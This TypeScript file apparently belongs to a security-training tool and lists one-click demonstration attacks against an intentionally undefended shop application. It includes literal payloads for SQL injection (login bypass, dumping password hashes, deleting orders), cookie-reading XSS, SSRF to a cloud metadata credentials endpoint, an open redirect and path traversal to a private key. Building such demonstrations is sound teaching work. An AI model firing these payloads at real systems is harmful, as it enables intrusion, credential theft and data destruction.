import { allAttacks, allPlaces } from '../attack/all-attacks.ts';
import type { Place } from '../attack/attack.ts';
import { leftOut } from '../attack/left-out.ts';

/** An attack that one click fires. */
export interface Famous {
  readonly title: string;
  readonly says: string;
  readonly place: Place;
  readonly payload: string;
}

const attacks: readonly (readonly [
  group: Place['group'],
  endpoint: string,
  title: string,
  /** Empty for the one that a run fires there. */
  payload: string,
  says: string,
])[] = [
  [
    'SQL injection',
    'POST login email',
    'Log in without a password',
    "admin@example.com' --",
    'The rest of the statement becomes a comment.',
  ],
  [
    'SQL injection',
    'GET products category',
    'Read every password hash',
    "' union select id, email, password, 0 from users --",
    'A second query puts its rows into the page.',
  ],
  [
    'SQL injection',
    'GET products min',
    'Delete the orders',
    '0; delete from orders; --',
    'A second statement rides along.',
  ],
  [
    'XSS',
    'GET search q',
    'Run a script by a link',
    '<script>alert(document.domain)</script>',
    'The page repeats the search term.',
  ],
  [
    'XSS',
    'GET comments content',
    'Leave a script in a comment',
    '<img src="x" onerror="fetch(\'/admin/users\')">',
    'It runs for everybody who reads it.',
  ],
  [
    'XSS',
    'GET profile website',
    'Hide a script in a link',
    "javascript:alert('Session: ' + document.cookie)",
    'Escaping does not help: the URL itself is code.',
  ],
  [
    'XSS',
    'GET hello data',
    'Reach the page\u2019s own script',
    '<img src="x" onerror="alert(1)">',
    'The server never sees it: innerHTML does it all.',
  ],
  [
    'SSRF',
    'POST preview url',
    'Steal cloud credentials',
    'http://169.254.169.254/latest/meta-data/iam/security-credentials/',
    'The server can reach what you cannot.',
  ],
  [
    'SSRF',
    'POST api/preview url',
    'Get inside by a redirect',
    'http://news.example.com/to?http%3A%2F%2F10.0.0.5%2Fadmin',
    'The URL that was checked is not the one that answers.',
  ],
  [
    'SSRF',
    'POST preview url',
    'Write 127.0.0.1 as a number',
    'http://2130706433/',
    'No blocklist knows every spelling.',
  ],
  [
    'Sessions',
    'POST login, id planted by a subdomain',
    'Plant a session id',
    '',
    'The victim logs in to a session that a stranger knows.',
  ],
  [
    'Sessions',
    'GET account, cookie read on the network',
    'Read a cookie on the network',
    '',
    'One request over plain HTTP gives it away.',
  ],
  [
    'Sessions',
    'POST address, cookie tossed by a subdomain',
    'Toss a cookie from a subdomain',
    '',
    'The victim types an address into somebody else\u2019s account.',
  ],
  [
    'CSRF',
    'POST transfer, from a subdomain',
    'Spend the victim\u2019s credit',
    '',
    'A form on a subdomain, which SameSite does not stop.',
  ],
  [
    'CORS',
    'GET api/account, from a subdomain',
    'Read the account from another page',
    '',
    'The server allows every origin that asks.',
  ],
  [
    'Open redirect',
    'GET login next',
    'Lead a log-in to another site',
    '//evil.test/login',
    'The link is the shop\u2019s. The page that it ends on is not.',
  ],
  [
    'Passwords',
    'POST login, guesses from many addresses',
    'Guess a password',
    '',
    'A limit for each address stops nobody who has many.',
  ],
  [
    'Passwords',
    'POST login, a stolen hash',
    'Look a stolen hash up',
    '',
    'A fast hash without salt is the password itself.',
  ],
  [
    'Framing',
    'GET login',
    'Frame the login page',
    '<iframe src=".../login">',
    'The victim clicks on a page that they cannot see.',
  ],
  ['Error details', 'POST api/preview', 'Get a stack trace', '{broken', 'It is a map of the server.'],
  [
    'Path traversal',
    'GET download file',
    'Download the private key',
    '../private/customers.key',
    'Two dots lead out of the folder.',
  ],
  [
    'Path traversal',
    'POST import name',
    'Replace the price list',
    '',
    'A name chooses which file is written.',
  ],
  [
    'File upload',
    'POST avatar, opened by the victim',
    'Upload a page as a picture',
    '',
    'The type is what the sender says it is.',
  ],
  [
    'File upload',
    'POST avatar, a name that is taken',
    'Take the victim\u2019s file name',
    '',
    'Two customers call their picture me.png.',
  ],
  [
    'File upload',
    'POST pictures, names',
    'Write outside the folder with a zip',
    '',
    'The names in an archive are paths, too.',
  ],
  [
    'Command injection',
    'POST invoice customer',
    'Run a command through a name',
    '',
    'A quote ends the argument, and the shell reads on.',
  ],
  [
    'Command injection',
    'POST archive file',
    'Run a command without a shell',
    '',
    'A file name that begins with a dash is an option.',
  ],
  [
    'Parsers',
    'POST import json',
    'Free shipping for everybody',
    '',
    'One customer\u2019s JSON changes the prototype of all objects.',
  ],
  [
    'Parsers',
    'POST import yaml, aliases',
    'Stop the shop with 420 characters',
    '',
    'Each line repeats the one before nine times.',
  ],
  ['Parsers', 'POST basket saved', 'Hide a function in data', '', 'A saved basket runs when it is read.'],
  [
    'Parsers',
    'GET customers.csv name',
    'Send a formula to the accountant',
    '',
    'The spreadsheet runs what a customer is called.',
  ],
];

/** One of each kind that people know, all of which land on the undefended application. */
export const famous: readonly Famous[] = attacks.flatMap(([group, endpoint, title, payload, says]) => {
  if (leftOut.some((one) => one.endpoint === endpoint)) return [];
  const place = allPlaces.find((one) => one.group === group && one.endpoint === endpoint);
  if (!place) throw new Error(`There is no place ${group} ${endpoint}.`);
  return [{ title, says, place, payload: payload || payloadAt(place) }];
});

/** The one that a run fires there. */
function payloadAt({ group, endpoint }: Place): string {
  const found = allAttacks().find((one) => one.group === group && one.endpoint === endpoint);
  if (!found) throw new Error(`Nothing is fired at ${endpoint}.`);
  return found.payload;
}
